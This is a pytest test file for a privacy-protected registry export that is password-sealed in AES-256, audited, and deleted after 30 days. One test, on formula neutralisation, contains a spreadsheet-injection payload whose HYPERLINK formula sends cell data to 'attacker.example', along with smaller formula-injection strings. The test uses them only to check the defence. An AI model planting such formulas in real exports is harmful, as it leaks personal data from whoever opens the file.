"""Registry export (PROTECTION.md 13-14): its own permission, produced by a
job, sealed in an AES-256 ZIP with a password given at request time,
downloadable for 30 days at most, every download audited, expired files
deleted by the schedule and refused (410), spreadsheet formulas neutralised."""

import csv
import io
import stat
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
import pyzipper
import time_machine
from django.test import Client, override_settings
from django.utils import timezone

from salama.audit.models import AuditEntry
from salama.jobs import scheduler
from salama.jobs.api import Job, run_pending_jobs
from salama.lib.spreadsheet import neutralise_cell
from salama.notifications.models import Notification
from salama.privacy import selectors
from salama.privacy.models import ExportFile
from tests.conftest import bearer, person_fields, register, signed_in

PASSWORD = "tulip river copper 42"


def ask(client: Any, password: str = PASSWORD, again: str | None = None) -> Any:
    return client.post("/privacy/exports/", {"password1": password, "password2": again or password})


def produce(user: Any, password: str = PASSWORD) -> ExportFile:
    client = signed_in(user)
    response = ask(client, password)
    assert response.status_code == 302, response.content.decode()[:2000]
    run_pending_jobs()
    return ExportFile.objects.get(user=user)


def rows_of(content: bytes, password: str = PASSWORD) -> list[list[str]]:
    with pyzipper.AESZipFile(io.BytesIO(content)) as archive:
        archive.setpassword(password.encode())
        (name,) = archive.namelist()
        text = archive.read(name).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def assert_aes_256(raw: bytes) -> None:
    """WinZip AES (method 99), AE-2, strength 3 = 256-bit keys, in every entry."""
    for info in zipfile.ZipFile(io.BytesIO(raw)).infolist():
        assert info.compress_type == 99 and info.flag_bits & 1
        assert b"\x01\x99\x07\x00\x02\x00AE\x03" in info.extra


def download(user: Any, export: ExportFile) -> Any:
    return signed_in(user).get(f"/privacy/exports/{export.pk}/download/")


def test_the_export_is_a_job_and_its_file_is_sealed_with_the_password(
    world: Any, amc_person: Any, hop_person: Any
) -> None:
    protection = world.user("protection")
    response = ask(signed_in(protection))
    export = ExportFile.objects.get()
    job = Job.objects.get(pk=export.job_id)
    assert response["Location"].startswith(f"/jobs/{job.pk}/")  # the job's progress page
    assert PASSWORD not in str(job.kwargs) and str(export.pk) in str(job.kwargs)
    run_pending_jobs()
    job.refresh_from_db()
    export.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error_message
    assert (job.progress_done, job.progress_total) == (1, 1)
    assert export.status == "ready" and export.sealing_password == ""
    path = selectors.export_path(export)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    raw = path.read_bytes()
    assert b"Al-Hassan" not in raw and b"registration_number" not in raw
    archive = pyzipper.AESZipFile(io.BytesIO(raw))
    with pytest.raises(RuntimeError):  # no password: nothing to read
        archive.read(archive.namelist()[0])
    assert_aes_256(raw)
    rows = rows_of(raw)
    assert rows[0][:3] == ["registration_number", "household", "given_name"]
    assert [r[0] for r in rows[1:]] == [amc_person.registration_number]  # their sites only
    entry = AuditEntry.objects.get(action="export")
    assert entry.username == "protection" and "given_name" in entry.changed_fields
    note = Notification.objects.get(recipient=protection, kind="privacy.export_ready")
    assert note.reference == f"EX-{str(export.pk)[:8].upper()}"  # short, no personal data
    assert note.link == f"/privacy/exports/{export.pk}/"


def test_a_weak_or_mismatched_password_is_refused_and_nothing_is_queued(world: Any) -> None:
    client = signed_in(world.user("protection"))
    for password, again in (
        ("short", None),
        ("password1234", None),
        ("123456789012345", None),
        (PASSWORD, PASSWORD + "x"),
    ):
        response = ask(client, password, again)
        assert response.status_code == 400
    assert not ExportFile.objects.exists() and not Job.objects.exists()


def test_roles_without_the_export_permission_are_refused(world: Any, amc_person: Any) -> None:
    for name in ("registrar", "caseworker", "tracer", "analyst"):
        assert ask(signed_in(world.user(name))).status_code == 403
    assert not ExportFile.objects.exists()
    assert not AuditEntry.objects.filter(action="export").exists()
    assert signed_in(world.user("admin")).get("/registry/export.csv").status_code == 404


def test_highly_sensitive_fields_never_leave_in_an_export(world: Any) -> None:
    register(world, world.amc_block, person_fields(specific_needs=["SV-SS"]))
    admin = world.user("admin")
    rows = rows_of(download(admin, produce(admin)).getvalue())
    assert "specific_needs" not in rows[0] and "mask_name" not in rows[0]
    assert "languages" in rows[0] and "SV-SS" not in str(rows)


def test_formula_cells_are_neutralised(world: Any) -> None:
    formula = '=HYPERLINK("http://attacker.example/?d="&A2,"Click")'
    household = register(
        world,
        world.amc_block,
        person_fields(origin_admin1="+1+1", father_name_latin="@SUM(1)"),
    )
    admin = world.user("admin")
    person = household.members.get()
    patched = Client().patch(  # set through the API, as the probe did
        f"/api/v1/persons/{person.pk}",
        data={"origin_place": formula},
        content_type="application/json",
        **bearer(admin),
    )
    assert patched.status_code == 200, patched.content
    rows = rows_of(download(admin, produce(admin)).getvalue())
    header, row = rows[0], rows[1]
    assert row[header.index("origin_place")] == "'" + formula
    assert row[header.index("origin_admin1")] == "'+1+1"
    assert row[header.index("father_name_latin")] == "'@SUM(1)"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    for dangerous in ("-2+3", "\t=1", "\r=1"):
        assert neutralise_cell(dangerous) == "'" + dangerous
    assert neutralise_cell("Homs") == "Homs" and neutralise_cell(12) == 12


def test_downloads_are_audited_and_only_the_requester_may_download(
    world: Any, amc_person: Any
) -> None:
    protection = world.user("protection")
    export = produce(protection)
    for _ in range(2):
        response = download(protection, export)
        assert response.status_code == 200 and response["Content-Type"] == "application/zip"
        assert response["Cache-Control"] == "no-store"
        assert response["Content-Disposition"].startswith("attachment; filename=")
        assert amc_person.registration_number not in response["Content-Disposition"]
        assert rows_of(response.getvalue())[1][0] == amc_person.registration_number
    assert AuditEntry.objects.filter(action="download", record_id=str(export.pk)).count() == 2
    assert download(world.user("admin"), export).status_code == 404
    client = signed_in(protection)
    page = client.get(f"/privacy/exports/{export.pk}/").content.decode()
    assert f"/privacy/exports/{export.pk}/download/" in page
    assert f"/privacy/exports/{export.pk}/" in client.get("/privacy/exports/").content.decode()
    assert "/privacy/exports/" in client.get("/privacy/").content.decode()
    assert signed_in(world.user("admin")).get(f"/privacy/exports/{export.pk}/").status_code == 404
    assert signed_in(world.user("analyst")).get("/privacy/").status_code == 404


def test_an_export_expires_after_thirty_days_is_refused_then_deleted(
    world: Any, amc_person: Any
) -> None:
    protection = world.user("protection")
    export = produce(protection)
    path = selectors.export_path(export)
    assert export.expires_at - export.created_at == timedelta(days=30)
    with time_machine.travel(export.created_at + timedelta(days=29, hours=23), tick=False):
        assert download(protection, export).status_code == 200
    with time_machine.travel(export.created_at + timedelta(days=30, minutes=1), tick=False):
        assert download(protection, export).status_code == 410  # refused before deletion
        assert path.exists()
        claimed = scheduler.tick(timezone.now())
        assert "privacy.exports_expire" in {slot.entry for slot in claimed}
        run_pending_jobs()
        assert not path.exists()
        export.refresh_from_db()
        assert export.status == "deleted"
        assert download(protection, export).status_code == 410
    assert AuditEntry.objects.filter(action="delete", model="privacy.ExportFile").exists()


@override_settings(SALAMA_EXPORT_DAYS=7)
def test_the_period_can_be_shortened(world: Any, amc_person: Any) -> None:
    export = produce(world.user("protection"))
    assert export.expires_at - export.created_at == timedelta(days=7)


@override_settings(SALAMA_EXPORT_DAYS=365)
def test_the_period_never_exceeds_thirty_days(world: Any, amc_person: Any) -> None:
    export = produce(world.user("protection"))
    assert export.expires_at - export.created_at == timedelta(days=30)


def test_the_settings_cap_the_period_at_thirty_days(monkeypatch: Any) -> None:
    import importlib

    import salama.settings as production

    monkeypatch.setenv("SALAMA_EXPORT_DAYS", "90")
    try:
        assert importlib.reload(production).SALAMA_EXPORT_DAYS == 30
    finally:
        monkeypatch.delenv("SALAMA_EXPORT_DAYS")
        importlib.reload(production)


def test_the_schedule_deletes_expired_files_hourly() -> None:
    from salama.jobs.schedule import SCHEDULE

    entry = {e.name: e for e in SCHEDULE}["privacy.exports_expire"]
    assert entry.every_minutes == 60
    assert entry.slot(datetime(2026, 5, 2, 10, 30, tzinfo=UTC)) == datetime(
        2026, 5, 2, 10, 0, tzinfo=UTC
    )


def test_a_requester_who_lost_the_permission_gets_no_file(world: Any, amc_person: Any) -> None:
    from salama.core.models import Membership

    protection = world.user("protection")
    assert ask(signed_in(protection)).status_code == 302
    Membership.objects.filter(user=protection).update(role="tracing_officer")
    run_pending_jobs()
    export = ExportFile.objects.get()
    job = Job.objects.get(pk=export.job_id)
    assert job.status == Job.Status.FAILED and job.attempts == 1  # not retried
    assert export.status == "failed" and export.sealing_password == ""
    assert not selectors.export_path(export).exists()
    assert not AuditEntry.objects.filter(action="export").exists()
